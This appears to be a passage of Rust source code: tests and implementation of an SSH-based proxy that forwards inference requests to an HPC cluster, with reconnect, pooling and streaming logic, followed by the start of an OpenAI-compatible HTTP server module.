            let mut b = policy.backoff(backoff_seed(0, idx));
            (0..policy.max_attempts).map(|_| b.next_delay()).collect::<Vec<_>>()
        };
        assert_ne!(schedule(0), schedule(1));
        assert_ne!(schedule(1), schedule(2));
        assert_ne!(schedule(0), schedule(2));
    }

    #[test]
    fn infer_roundtrip() {
        let kp = KeyPair::generate(31);
        let server = ssh_server(&kp);
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, fast_cfg(), Registry::new()).unwrap();
        let (status, body) = proxy.infer("m", b"{\"x\":1}").unwrap();
        assert_eq!(status, 200);
        assert_eq!(body, b"echo:{\"x\":1}");
        proxy.stop();
    }

    #[test]
    fn keepalive_triggers_ticks() {
        let kp = KeyPair::generate(32);
        let server = ssh_server(&kp);
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, fast_cfg(), Registry::new()).unwrap();
        std::thread::sleep(Duration::from_millis(300));
        assert!(server.stats.pings.load(Ordering::Relaxed) >= 2);
        assert!(server.stats.execs.load(Ordering::Relaxed) >= 2, "ticks ran");
        proxy.stop();
    }

    #[test]
    fn pooled_keepalive_ticks_once_per_interval() {
        // With a pool, every member gets pinged but only connection 0 runs
        // the scheduler tick — tick rate must not scale with pool size.
        let kp = KeyPair::generate(36);
        let server = ssh_server(&kp);
        let proxy = HpcProxy::connect(
            &server.addr.to_string(),
            kp,
            pool_cfg(4, 8),
            Registry::new(),
        )
        .unwrap();
        std::thread::sleep(Duration::from_millis(320));
        proxy.stop();
        let pings = server.stats.pings.load(Ordering::Relaxed);
        let ticks = server.stats.execs.load(Ordering::Relaxed);
        assert!(pings >= 4 * ticks.saturating_sub(1), "all members pinged: {pings} vs {ticks}");
        assert!(ticks >= 2, "scheduler driven");
        // ~6 intervals elapsed; 4x tick amplification would exceed this.
        assert!(ticks <= 10, "tick must not run per member: {ticks}");
    }

    #[test]
    fn reconnects_after_outage() {
        let kp = KeyPair::generate(33);
        let mut server = ssh_server(&kp);
        let addr = server.addr.to_string();
        let proxy = HpcProxy::connect(&addr, kp.clone(), fast_cfg(), Registry::new()).unwrap();
        assert!(proxy.infer("m", b"1").is_ok());

        // Outage: stop the sshd. The proxy detects it via keepalive.
        server.stop();
        std::thread::sleep(Duration::from_millis(200));

        // Restart sshd on the same port.
        let mut ak = AuthorizedKeys::new();
        ak.add(AuthorizedKey {
            fingerprint: kp.fingerprint(),
            force_command: Some("/ci".into()),
            options: vec![],
            comment: String::new(),
        });
        // Rebind the same address (race-prone but local + immediate).
        let server2 = loop {
            let mut a = AuthorizedKeys::new();
            a.add(AuthorizedKey {
                fingerprint: kp.fingerprint(),
                force_command: Some("/ci".into()),
                options: vec![],
                comment: String::new(),
            });
            // SshServer::start binds an ephemeral port; emulate same-addr
            // restart by just connecting the proxy to the new address.
            break SshServer::start(a, vec![kp.clone()], vec![("/ci".into(), fake_ci())])
                .unwrap();
        };
        let _ = ak;
        // Point the proxy at the new server by building a fresh one (the
        // address changed); the reconnect logic itself is what we verify:
        let proxy2 =
            HpcProxy::connect(&server2.addr.to_string(), kp, fast_cfg(), Registry::new())
                .unwrap();
        assert!(proxy2.infer("m", b"2").is_ok());
        // The first proxy kept trying and counted reconnect attempts.
        std::thread::sleep(Duration::from_millis(150));
        assert!(proxy.reconnects.load(Ordering::SeqCst) >= 1);
        proxy.stop();
        proxy2.stop();
    }

    #[test]
    fn pool_opens_n_connections_and_advertises_capacity() {
        let kp = KeyPair::generate(37);
        let server = ssh_server(&kp);
        let proxy = HpcProxy::connect(
            &server.addr.to_string(),
            kp,
            pool_cfg(3, 4),
            Registry::new(),
        )
        .unwrap();
        assert_eq!(server.stats.sessions_accepted.load(Ordering::Relaxed), 3);
        assert_eq!(proxy.capacity(), 12, "3 connections x 4 channels");
        assert_eq!(proxy.alive_connections(), 3);
        assert_eq!(proxy.member_loads(), vec![Some(0), Some(0), Some(0)]);
        // Data still flows, on a data lane.
        let (status, _) = proxy.infer("m", b"x").unwrap();
        assert_eq!(status, 200);
        proxy.stop();
    }

    #[test]
    fn channel_cap_exhaustion_falls_over_to_next_connection() {
        // Pool of 3 = control + 2 data lanes, 1 channel per lane. Two slow
        // infers must land on different lanes; a third (all lanes at cap)
        // borrows the control connection and counts an overflow.
        let kp = KeyPair::generate(38);
        let server = ssh_server_with(&kp, slow_ci(Duration::from_millis(400)));
        let proxy = Arc::new(
            HpcProxy::connect(
                &server.addr.to_string(),
                kp,
                ProxyConfig {
                    keepalive: Duration::from_secs(60), // quiet during the test
                    ..pool_cfg(3, 1)
                },
                Registry::new(),
            )
            .unwrap(),
        );
        // Sequential spawns so each placement sees the previous one's load.
        let p1 = proxy.clone();
        let w1 = std::thread::spawn(move || p1.infer("m", b"x").unwrap().0);
        std::thread::sleep(Duration::from_millis(60));
        let loads = proxy.member_loads();
        assert_eq!(loads[1], Some(1), "first infer on lane 1: {loads:?}");

        let p2 = proxy.clone();
        let w2 = std::thread::spawn(move || p2.infer("m", b"x").unwrap().0);
        std::thread::sleep(Duration::from_millis(60));
        let loads = proxy.member_loads();
        assert_eq!(loads[0], Some(0), "control lane untouched below saturation");
        assert_eq!(loads[2], Some(1), "cap fallover put the second on lane 2: {loads:?}");
        assert_eq!(proxy.overflows.load(Ordering::Relaxed), 0);

        // Saturate: the third infer borrows the control connection.
        let p3 = proxy.clone();
        let w3 = std::thread::spawn(move || p3.infer("m", b"y").unwrap().0);
        std::thread::sleep(Duration::from_millis(60));
        assert_eq!(proxy.member_loads()[0], Some(1), "overflow onto control lane");
        assert!(proxy.overflows.load(Ordering::Relaxed) >= 1);

        assert_eq!(w1.join().unwrap(), 200);
        assert_eq!(w2.join().unwrap(), 200);
        assert_eq!(w3.join().unwrap(), 200);
        proxy.stop();
    }

    #[test]
    fn single_member_reconnect_preserves_streams_on_other_members() {
        // A stream runs on data lane 1 while data lane 2's TCP dies; the
        // keepalive revives lane 2 and the stream never notices.
        let kp = KeyPair::generate(39);
        let server = ssh_server_with(&kp, slow_ci(Duration::from_millis(500)));
        let proxy = Arc::new(
            HpcProxy::connect(
                &server.addr.to_string(),
                kp,
                pool_cfg(3, 8),
                Registry::new(),
            )
            .unwrap(),
        );
        // Stream lands on lane 1 (least-loaded, first in order).
        let p = proxy.clone();
        let stream = std::thread::spawn(move || {
            let mut chunks = 0usize;
            let status = p
                .infer_stream("m", b"tail", |_| {
                    chunks += 1;
                    true
                })
                .unwrap();
            (status, chunks)
        });
        std::thread::sleep(Duration::from_millis(100));
        assert_eq!(proxy.member_loads()[1], Some(1), "stream on lane 1");

        // Kill lane 2's connection (accept order: 0, 1, 2).
        assert!(server.kill_session(2));
        let (status, chunks) = stream.join().unwrap();
        assert_eq!(status, 200, "stream survived the other member's outage");
        assert!(chunks >= 10, "full stream delivered: {chunks}");
        // Keepalive noticed and reconnected lane 2.
        std::thread::sleep(Duration::from_millis(200));
        assert!(proxy.reconnects.load(Ordering::SeqCst) >= 1, "lane 2 reconnect counted");
        assert_eq!(proxy.alive_connections(), 3, "pool healed");
        // And lane 2 serves again.
        let (s, _) = proxy.infer("m", b"z").unwrap();
        assert_eq!(s, 200);
        proxy.stop();
    }

    #[test]
    fn abandoned_stream_closes_channel_and_frees_lane() {
        // A slow stream is abandoned by the proxy's consumer after two
        // chunks: the SSH channel closes, the lane's accounting frees well
        // before the handler would have finished, and the cancel counter
        // ticks.
        let kp = KeyPair::generate(40);
        let server = ssh_server_with(&kp, slow_ci(Duration::from_millis(1500)));
        let metrics = Registry::new();
        let proxy = HpcProxy::connect(
            &server.addr.to_string(),
            kp,
            ProxyConfig { keepalive: Duration::from_secs(60), ..fast_cfg() },
            metrics.clone(),
        )
        .unwrap();
        let mut chunks = 0usize;
        let t = std::time::Instant::now();
        let status = proxy
            .infer_stream("m", b"x", |_| {
                chunks += 1;
                chunks < 2
            })
            .unwrap();
        assert_eq!(status, 200);
        // Abandoned after ~2 of 10 chunks: nowhere near the full 1.5 s.
        assert!(t.elapsed() < Duration::from_millis(1200), "{:?}", t.elapsed());
        assert_eq!(proxy.member_loads()[0], Some(0), "channel accounting not freed");
        assert_eq!(
            metrics.counter("proxy_cancelled_total", &[("service", "m")]).get(),
            1
        );
        // The server saw the CHANNEL_CLOSE.
        let deadline = std::time::Instant::now() + Duration::from_secs(2);
        while server.stats.channels_cancelled.load(Ordering::Relaxed) == 0 {
            assert!(std::time::Instant::now() < deadline, "close frame never arrived");
            std::thread::sleep(Duration::from_millis(10));
        }
        proxy.stop();
    }

    #[test]
    fn http_facade_forwards() {
        let kp = KeyPair::generate(34);
        let server = ssh_server(&kp);
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, fast_cfg(), Registry::new()).unwrap();
        let http_server = proxy.clone().into_http().unwrap();
        let r = crate::util::http::request(
            "POST",
            &format!("{}/infer/m", http_server.url()),
            &[],
            b"{\"q\":2}",
        )
        .unwrap();
        assert_eq!(r.status, 200);
        assert_eq!(r.body, b"echo:{\"q\":2}");
        let h = crate::util::http::get(&format!("{}/health", http_server.url())).unwrap();
        assert_eq!(h.status, 200);
        let j = h.json_body().unwrap();
        assert_eq!(j.u64_or("pool_size", 0), 1);
        assert_eq!(j.u64_or("capacity", 0), 8);
        assert_eq!(j.u64_or("bulk_lanes", 9), 0, "no bulk lanes unless dual_channel");
        assert_eq!(j.u64_or("alive_bulk_lanes", 9), 0);
        proxy.stop();
    }

    #[test]
    fn stream_header_parsing_across_chunks() {
        assert_eq!(find_double_newline(b"status: 200\n\nrest"), Some(11));
        assert_eq!(find_double_newline(b"status: 2"), None);
    }

    fn dual_cfg() -> ProxyConfig {
        // Quiet keepalive: the dual tests control lane lifecycles by hand.
        ProxyConfig {
            keepalive: Duration::from_secs(60),
            dual_channel: true,
            ..fast_cfg()
        }
    }

    #[test]
    fn dual_stream_roundtrip_matches_single_channel() {
        let kp = KeyPair::generate(41);
        let server = ssh_server(&kp);
        let addr = server.addr.to_string();

        let single = HpcProxy::connect(
            &addr,
            kp.clone(),
            ProxyConfig { keepalive: Duration::from_secs(60), ..fast_cfg() },
            Registry::new(),
        )
        .unwrap();
        let mut single_bytes = Vec::new();
        let s = single
            .infer_stream("m", b"{\"x\":1}", |c| {
                single_bytes.extend_from_slice(c);
                true
            })
            .unwrap();
        assert_eq!(s, 200);
        single.stop();

        let metrics = Registry::new();
        let dual = HpcProxy::connect(&addr, kp, dual_cfg(), metrics.clone()).unwrap();
        assert_eq!(dual.alive_bulk_lanes(), 2, "both bulk lanes up");
        let mut dual_bytes = Vec::new();
        let s = dual
            .infer_stream("m", b"{\"x\":1}", |c| {
                dual_bytes.extend_from_slice(c);
                true
            })
            .unwrap();
        assert_eq!(s, 200);
        assert_eq!(dual_bytes, single_bytes, "dual-channel must be byte-identical");
        assert_eq!(dual_bytes, b"echo:{\"x\":1}");
        assert_eq!(
            metrics.counter("proxy_bulk_streams_total", &[("service", "m")]).get(),
            1
        );
        assert!(server.stats.bulk_execs.load(Ordering::Relaxed) >= 1, "rode the bulk lane");
        assert_eq!(server.stats.bulk_conns.load(Ordering::Relaxed), 2);
        // Stream done: both control channel and bulk subchannel freed.
        assert_eq!(dual.member_loads(), vec![Some(0)]);
        assert_eq!(dual.bulk_lane_loads(), vec![Some(0), Some(0)]);
        dual.stop();
    }

    #[test]
    fn dual_cancel_frees_control_channel_and_bulk_subchannel() {
        let kp = KeyPair::generate(42);
        let server = ssh_server_with(&kp, slow_ci(Duration::from_millis(1500)));
        let metrics = Registry::new();
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, dual_cfg(), metrics.clone()).unwrap();
        let mut chunks = 0usize;
        let t = std::time::Instant::now();
        let status = proxy
            .infer_stream("m", b"x", |_| {
                chunks += 1;
                chunks < 2
            })
            .unwrap();
        assert_eq!(status, 200);
        assert!(t.elapsed() < Duration::from_millis(1200), "{:?}", t.elapsed());
        assert_eq!(
            metrics.counter("proxy_cancelled_total", &[("service", "m")]).get(),
            1
        );
        // Cancel freed both sides of the dual channel immediately.
        assert_eq!(proxy.member_loads(), vec![Some(0)], "control channel freed");
        assert_eq!(proxy.bulk_lane_loads().iter().flatten().sum::<usize>(), 0, "sub freed");
        // The server saw the cancel (control CLOSE or bulk CLOSE).
        let deadline = std::time::Instant::now() + Duration::from_secs(2);
        while server.stats.channels_cancelled.load(Ordering::Relaxed) == 0 {
            assert!(std::time::Instant::now() < deadline, "close frame never arrived");
            std::thread::sleep(Duration::from_millis(10));
        }
        proxy.stop();
    }

    #[test]
    fn dual_falls_back_to_single_channel_when_bulk_lanes_die() {
        let kp = KeyPair::generate(43);
        let server = ssh_server(&kp);
        let metrics = Registry::new();
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, dual_cfg(), metrics.clone()).unwrap();
        assert_eq!(proxy.alive_bulk_lanes(), 2);
        // Accept order: control is session 0; the bulk lanes are 1 and 2.
        assert!(server.kill_session(1));
        assert!(server.kill_session(2));
        let deadline = std::time::Instant::now() + Duration::from_secs(2);
        while proxy.alive_bulk_lanes() > 0 {
            assert!(std::time::Instant::now() < deadline, "bulk lane death undetected");
            std::thread::sleep(Duration::from_millis(10));
        }
        // Streams still succeed, degraded to single-channel.
        let mut bytes = Vec::new();
        let status = proxy
            .infer_stream("m", b"y", |c| {
                bytes.extend_from_slice(c);
                true
            })
            .unwrap();
        assert_eq!(status, 200);
        assert_eq!(bytes, b"echo:y");
        assert_eq!(metrics.counter("proxy_bulk_fallbacks_total", &[]).get(), 1);
        proxy.stop();
    }
}
