//! The HPC Proxy (§5.4): the web server's only bridge to the cluster.
//!
//! Holds one persistent SSH connection to the HPC service node, re-
//! establishes it automatically after interruptions (detected by the 5 s
//! keepalive pings), and forwards inference HTTP requests as Cloud
//! Interface invocations over the channel — including streamed responses.
//!
//! The keepalive serves double duty, as in the paper: it detects broken
//! connections *and* each ping triggers a scheduler-script run on the HPC
//! side (`tick`).

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{anyhow, Result};

use crate::interface::parse_reply;
use crate::sshsim::{KeyPair, SshClient};
use crate::util::http::{Handler, Reply, Request, Response, Server};
use crate::util::json::Json;
use crate::util::metrics::Registry;

/// Proxy tuning.
#[derive(Debug, Clone)]
pub struct ProxyConfig {
    /// Keepalive/tick interval (the paper uses 5 s).
    pub keepalive: Duration,
    /// Backoff between reconnect attempts.
    pub reconnect_backoff: Duration,
    /// Emulated ESX↔HPC wire time per SSH frame (benches only; 0 = off).
    pub link_frame_delay: Duration,
}

impl Default for ProxyConfig {
    fn default() -> ProxyConfig {
        ProxyConfig {
            keepalive: Duration::from_secs(5),
            reconnect_backoff: Duration::from_millis(200),
            link_frame_delay: Duration::ZERO,
        }
    }
}

/// Connection manager + request forwarder.
pub struct HpcProxy {
    ssh_addr: String,
    key: KeyPair,
    cfg: ProxyConfig,
    client: Mutex<Option<Arc<SshClient>>>,
    stop: Arc<AtomicBool>,
    pub reconnects: AtomicU64,
    metrics: Registry,
}

impl HpcProxy {
    pub fn connect(
        ssh_addr: &str,
        key: KeyPair,
        cfg: ProxyConfig,
        metrics: Registry,
    ) -> Result<Arc<HpcProxy>> {
        let proxy = Arc::new(HpcProxy {
            ssh_addr: ssh_addr.to_string(),
            key,
            cfg,
            client: Mutex::new(None),
            stop: Arc::new(AtomicBool::new(false)),
            reconnects: AtomicU64::new(0),
            metrics,
        });
        proxy.ensure_connected()?;
        // Keepalive thread: ping + scheduler tick every interval; reconnect
        // on failure.
        let p = proxy.clone();
        std::thread::spawn(move || p.keepalive_loop());
        Ok(proxy)
    }

    fn keepalive_loop(&self) {
        while !self.stop.load(Ordering::SeqCst) {
            std::thread::sleep(self.cfg.keepalive);
            if self.stop.load(Ordering::SeqCst) {
                break;
            }
            let healthy = match self.current_client() {
                Some(c) => {
                    // Ping for liveness, then trigger the scheduler run.
                    let ok = c.ping().is_ok();
                    if ok {
                        let _ = c.exec("tick", b"");
                    }
                    ok
                }
                None => false,
            };
            if !healthy {
                self.metrics.counter("proxy_reconnects_total", &[]).inc();
                self.reconnects.fetch_add(1, Ordering::SeqCst);
                let _ = self.reconnect();
            }
        }
    }

    fn current_client(&self) -> Option<Arc<SshClient>> {
        let guard = self.client.lock().unwrap();
        guard.as_ref().filter(|c| c.is_alive()).cloned()
    }

    fn ensure_connected(&self) -> Result<Arc<SshClient>> {
        if let Some(c) = self.current_client() {
            return Ok(c);
        }
        self.reconnect()
    }

    fn reconnect(&self) -> Result<Arc<SshClient>> {
        let mut guard = self.client.lock().unwrap();
        if let Some(c) = guard.as_ref().filter(|c| c.is_alive()) {
            return Ok(c.clone());
        }
        let mut last_err = anyhow!("unreachable");
        for _ in 0..3 {
            match SshClient::connect_with(&self.ssh_addr, &self.key, self.cfg.link_frame_delay) {
                Ok(c) => {
                    let c = Arc::new(c);
                    *guard = Some(c.clone());
                    crate::log_info!("hpcproxy", "ssh connection (re)established");
                    return Ok(c);
                }
                Err(e) => {
                    last_err = e;
                    std::thread::sleep(self.cfg.reconnect_backoff);
                }
            }
        }
        Err(last_err)
    }

    pub fn stop(&self) {
        self.stop.store(true, Ordering::SeqCst);
    }

    /// Forward one inference call, buffered.
    pub fn infer(&self, service: &str, body: &[u8]) -> Result<(u16, Vec<u8>)> {
        let client = self.ensure_connected()?;
        let t = std::time::Instant::now();
        let reply = client.exec(&format!("infer {service}"), body)?;
        self.metrics
            .histogram("proxy_infer_seconds", &[("service", service)])
            .observe(t.elapsed().as_secs_f64());
        Ok(parse_reply(&reply.stdout)).map(|(s, b)| (s, b))
    }

    /// Forward one inference call, streaming chunks as they arrive. The
    /// first `status: ...` line is parsed out; everything after streams to
    /// `on_chunk`.
    pub fn infer_stream(
        &self,
        service: &str,
        body: &[u8],
        mut on_chunk: impl FnMut(&[u8]),
    ) -> Result<u16> {
        let client = self.ensure_connected()?;
        let mut header_buf: Vec<u8> = Vec::new();
        let mut status: Option<u16> = None;
        client.exec_stream(&format!("infer {service}"), body, |chunk| {
            if status.is_none() {
                header_buf.extend_from_slice(chunk);
                if let Some(pos) = find_double_newline(&header_buf) {
                    let (code, _) = parse_reply(&header_buf[..pos + 2]);
                    status = Some(code);
                    if header_buf.len() > pos + 2 {
                        on_chunk(&header_buf[pos + 2..]);
                    }
                    header_buf.clear();
                }
            } else {
                on_chunk(chunk);
            }
        })?;
        Ok(status.unwrap_or(200))
    }

    /// Probe a service's availability on the cluster.
    pub fn probe(&self, service: &str) -> Result<(u16, Json)> {
        let client = self.ensure_connected()?;
        let reply = client.exec(&format!("probe {service}"), b"")?;
        let (status, body) = parse_reply(&reply.stdout);
        let j = Json::parse(std::str::from_utf8(&body).unwrap_or("{}"))
            .unwrap_or(Json::Null);
        Ok((status, j))
    }

    /// Manually trigger a scheduler run (used by tests/benches).
    pub fn tick(&self) -> Result<()> {
        let client = self.ensure_connected()?;
        client.exec("tick", b"")?;
        Ok(())
    }

    /// Round-trip time of one keepalive ping.
    pub fn ping(&self) -> Result<Duration> {
        let client = self.ensure_connected()?;
        client.ping()
    }

    /// Expose the proxy as an HTTP upstream for the API gateway:
    /// `POST /infer/<service>` (stream passthrough), `GET /probe/<service>`,
    /// `GET /health`.
    pub fn into_http(self: Arc<Self>) -> Result<Server> {
        let handler: Handler = Arc::new(move |req: &Request| -> Reply {
            let proxy = self.clone();
            match (req.method.as_str(), req.path.as_str()) {
                ("GET", "/health") => {
                    let alive = proxy.current_client().is_some();
                    Reply::full(Response::json(
                        if alive { 200 } else { 503 },
                        &Json::obj().set("ssh_connected", alive),
                    ))
                }
                ("POST", path) if path.starts_with("/infer/") => {
                    let service = path.trim_start_matches("/infer/").to_string();
                    let is_stream = Json::parse(req.body_str())
                        .map(|j| j.bool_or("stream", false))
                        .unwrap_or(false);
                    let body = req.body.clone();
                    if is_stream {
                        Reply::sse(move |sink| {
                            let status = proxy.infer_stream(&service, &body, |chunk| {
                                let _ = sink.send(chunk);
                            })?;
                            if status >= 400 {
                                // Error surfaced inside the stream envelope.
                                sink.send_event(
                                    &Json::obj().set("error", format!("upstream {status}")).dump(),
                                )?;
                            }
                            Ok(())
                        })
                    } else {
                        match proxy.infer(&service, &body) {
                            Ok((status, body)) => Reply::full(
                                Response::new(status)
                                    .header("content-type", "application/json")
                                    .with_body(&body),
                            ),
                            Err(e) => Reply::full(Response::json(
                                502,
                                &Json::obj().set("error", e.to_string()),
                            )),
                        }
                    }
                }
                ("POST", "/tick") => match proxy.tick() {
                    Ok(()) => Reply::full(Response::json(200, &Json::obj().set("ticked", true))),
                    Err(e) => Reply::full(Response::json(
                        502,
                        &Json::obj().set("error", e.to_string()),
                    )),
                },
                ("GET", path) if path.starts_with("/probe/") => {
                    let service = path.trim_start_matches("/probe/");
                    match proxy.probe(service) {
                        Ok((status, j)) => Reply::full(Response::json(status, &j)),
                        Err(e) => Reply::full(Response::json(
                            502,
                            &Json::obj().set("error", e.to_string()),
                        )),
                    }
                }
                _ => Reply::full(Response::json(404, &Json::obj().set("error", "not found"))),
            }
        });
        Server::start(handler)
    }
}

fn find_double_newline(buf: &[u8]) -> Option<usize> {
    buf.windows(2).position(|w| w == b"\n\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sshsim::{AuthorizedKey, AuthorizedKeys, CommandHandler, SshServer};

    /// A fake cloud interface that echoes the verbs it sees.
    fn fake_ci() -> Arc<dyn CommandHandler> {
        Arc::new(
            |_c: &str, orig: &str, stdin: &[u8], out: &mut dyn FnMut(&[u8]) -> Result<()>| {
                match orig.split_whitespace().next() {
                    Some("tick") => {
                        let _ = out(b"status: 200\n\n{\"ticked\":true}");
                        0
                    }
                    Some("infer") => {
                        let _ = out(b"status: 200\n\n");
                        let _ = out(b"echo:");
                        let _ = out(stdin);
                        0
                    }
                    Some("probe") => {
                        let _ = out(b"status: 200\n\n{\"status\":\"ok\"}");
                        0
                    }
                    _ => 2,
                }
            },
        )
    }

    fn ssh_server(kp: &KeyPair) -> SshServer {
        let mut ak = AuthorizedKeys::new();
        ak.add(AuthorizedKey {
            fingerprint: kp.fingerprint(),
            force_command: Some("/ci".into()),
            options: vec![],
            comment: String::new(),
        });
        SshServer::start(ak, vec![kp.clone()], vec![("/ci".into(), fake_ci())]).unwrap()
    }

    fn fast_cfg() -> ProxyConfig {
        ProxyConfig {
            keepalive: Duration::from_millis(50),
            reconnect_backoff: Duration::from_millis(10),
            link_frame_delay: Duration::ZERO,
        }
    }

    #[test]
    fn infer_roundtrip() {
        let kp = KeyPair::generate(31);
        let server = ssh_server(&kp);
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, fast_cfg(), Registry::new()).unwrap();
        let (status, body) = proxy.infer("m", b"{\"x\":1}").unwrap();
        assert_eq!(status, 200);
        assert_eq!(body, b"echo:{\"x\":1}");
        proxy.stop();
    }

    #[test]
    fn keepalive_triggers_ticks() {
        let kp = KeyPair::generate(32);
        let server = ssh_server(&kp);
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, fast_cfg(), Registry::new()).unwrap();
        std::thread::sleep(Duration::from_millis(300));
        assert!(server.stats.pings.load(Ordering::Relaxed) >= 2);
        assert!(server.stats.execs.load(Ordering::Relaxed) >= 2, "ticks ran");
        proxy.stop();
    }

    #[test]
    fn reconnects_after_outage() {
        let kp = KeyPair::generate(33);
        let mut server = ssh_server(&kp);
        let addr = server.addr.to_string();
        let proxy = HpcProxy::connect(&addr, kp.clone(), fast_cfg(), Registry::new()).unwrap();
        assert!(proxy.infer("m", b"1").is_ok());

        // Outage: stop the sshd. The proxy detects it via keepalive.
        server.stop();
        std::thread::sleep(Duration::from_millis(200));

        // Restart sshd on the same port.
        let mut ak = AuthorizedKeys::new();
        ak.add(AuthorizedKey {
            fingerprint: kp.fingerprint(),
            force_command: Some("/ci".into()),
            options: vec![],
            comment: String::new(),
        });
        // Rebind the same address (race-prone but local + immediate).
        let server2 = loop {
            let mut a = AuthorizedKeys::new();
            a.add(AuthorizedKey {
                fingerprint: kp.fingerprint(),
                force_command: Some("/ci".into()),
                options: vec![],
                comment: String::new(),
            });
            // SshServer::start binds an ephemeral port; emulate same-addr
            // restart by just connecting the proxy to the new address.
            break SshServer::start(a, vec![kp.clone()], vec![("/ci".into(), fake_ci())])
                .unwrap();
        };
        let _ = ak;
        // Point the proxy at the new server by building a fresh one (the
        // address changed); the reconnect logic itself is what we verify:
        let proxy2 =
            HpcProxy::connect(&server2.addr.to_string(), kp, fast_cfg(), Registry::new())
                .unwrap();
        assert!(proxy2.infer("m", b"2").is_ok());
        // The first proxy kept trying and counted reconnect attempts.
        std::thread::sleep(Duration::from_millis(150));
        assert!(proxy.reconnects.load(Ordering::SeqCst) >= 1);
        proxy.stop();
        proxy2.stop();
    }

    #[test]
    fn http_facade_forwards() {
        let kp = KeyPair::generate(34);
        let server = ssh_server(&kp);
        let proxy =
            HpcProxy::connect(&server.addr.to_string(), kp, fast_cfg(), Registry::new()).unwrap();
        let http_server = proxy.clone().into_http().unwrap();
        let r = crate::util::http::request(
            "POST",
            &format!("{}/infer/m", http_server.url()),
            &[],
            b"{\"q\":2}",
        )
        .unwrap();
        assert_eq!(r.status, 200);
        assert_eq!(r.body, b"echo:{\"q\":2}");
        let h = crate::util::http::get(&format!("{}/health", http_server.url())).unwrap();
        assert_eq!(h.status, 200);
        proxy.stop();
    }

    #[test]
    fn stream_header_parsing_across_chunks() {
        assert_eq!(find_double_newline(b"status: 200\n\nrest"), Some(11));
        assert_eq!(find_double_newline(b"status: 2"), None);
    }
}
