//! OpenAI-compatible HTTP API over the engine (vLLM's `api_server`).
//!
//! Implements the subset of the API the Chat AI stack uses: streaming and
//! non-streaming `/v1/chat/completions`, `/v1/models`, and the `/health`
//! probe the paper's scheduler script polls before marking an instance
//! ready in the routing table (§5.6).

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::Result;

use super::engine::{Engine, GenEvent, GenRequest, Generation, Usage};
use crate::util::http::{Handler, Reply, Request, Response, Server, StreamSink};
use crate::util::json::{escape_str_into, Json};
use crate::util::metrics::Counter;

static COMPLETION_ID: AtomicU64 = AtomicU64::new(1);

/// The HTTP face of one LLM server instance.
pub struct LlmHttpServer {
    pub server: Server,
    pub model: String,
}

impl LlmHttpServer {
    /// Serve `engine` on an ephemeral port.
    pub fn start(engine: Engine) -> Result<LlmHttpServer> {
        Self::start_on("127.0.0.1:0", engine)
    }

    /// Serve on an explicit `host:port` (the scheduler picks random ports
    /// for service jobs, §5.6).
    pub fn start_on(bind: &str, engine: Engine) -> Result<LlmHttpServer> {
        let model = engine.model.clone();
        let handler = make_handler(engine);
        let server = Server::start_on(bind, handler)?;
        Ok(LlmHttpServer { server, model })
    }

    pub fn url(&self) -> String {
        self.server.url()
    }
}

/// Flatten chat messages into the model prompt (the paper's §6.4 "custom
/// system prompts" feature rides on the same template).
pub fn render_prompt(messages: &[Json]) -> String {
    let mut out = String::new();
    for m in messages {
        let role = m.str_or("role", "user");
        let content = m.str_or("content", "");
        out.push_str(role);
        out.push_str(": ");
        out.push_str(content);
        out.push('\n');
    }
    out.push_str("assistant:");
    out
}

fn parse_gen_request(body: &Json) -> GenRequest {
    let prompt = match body.get("messages").and_then(|m| m.as_arr()) {
        Some(msgs) if !msgs.is_empty() => render_prompt(msgs),
        _ => body.str_or("prompt", "").to_string(),
    };
    // `deadline_ms` is a relative budget re-anchored at every hop that
    // parses it (gRPC-style deadline propagation): the body travels
    // verbatim through gateway → proxy → SSH → interface, so the engine is
    // the single enforcement point and no hop needs clock sync. The budget
    // stays relative all the way into `GenRequest`; the engine anchors it
    // against its own injected clock at submission.
    let deadline_ms = match body.u64_or("deadline_ms", 0) {
        0 => None,
        ms => Some(ms),
    };
    GenRequest {
        prompt,
        max_tokens: body.u64_or("max_tokens", 64) as usize,
        temperature: body.f64_or("temperature", 0.0),
        top_k: body.u64_or("top_k", 0) as usize,
        seed: body.u64_or("seed", 0),
        deadline_ms,
    }
}

fn make_handler(engine: Engine) -> Handler {
    let engine = Arc::new(engine);
    Arc::new(move |req: &Request| -> Reply {
        match (req.method.as_str(), req.path.as_str()) {
            ("GET", "/health") => Reply::full(Response::json(
                200,
                &Json::obj().set("status", "ok").set("model", engine.model.as_str()),
            )),
            ("GET", "/v1/models") => {
                let entry = Json::obj()
                    .set("id", engine.model.as_str())
                    .set("object", "model")
                    .set("owned_by", "chat-hpc");
                Reply::full(Response::json(
                    200,
                    &Json::obj().set("object", "list").set("data", vec![entry]),
                ))
            }
            ("GET", "/metrics") => {
                Reply::full(Response::text(200, &engine.metrics().render()))
            }
            ("POST", "/v1/chat/completions") | ("POST", "/v1/completions") => {
                let body = match Json::parse(req.body_str()) {
                    Ok(b) => b,
                    Err(e) => {
                        return Reply::full(Response::json(
                            400,
                            &Json::obj().set("error", format!("invalid json: {e}")),
                        ))
                    }
                };
                let gen_req = parse_gen_request(&body);
                if gen_req.prompt.is_empty() {
                    return Reply::full(Response::json(
                        400,
                        &Json::obj().set("error", "empty prompt"),
                    ));
                }
                let stream = body.bool_or("stream", false);
                let id = format!(
                    "chatcmpl-{}",
                    COMPLETION_ID.fetch_add(1, Ordering::Relaxed)
                );
                let model = engine.model.clone();
                let generation = engine.submit(gen_req);

                if stream {
                    let cancelled_ctr = engine
                        .metrics()
                        .counter("llm_stream_cancelled_total", &[("model", &model)]);
                    let coalesced_ctr = engine
                        .metrics()
                        .counter("llm_sse_frames_coalesced_total", &[("model", &model)]);
                    let zero_copy = engine.zero_copy_sse;
                    Reply::sse(move |sink| {
                        if zero_copy {
                            pump_generation_zero_copy(
                                &generation,
                                sink,
                                &id,
                                &model,
                                &coalesced_ctr,
                                &cancelled_ctr,
                            )
                        } else {
                            pump_generation(
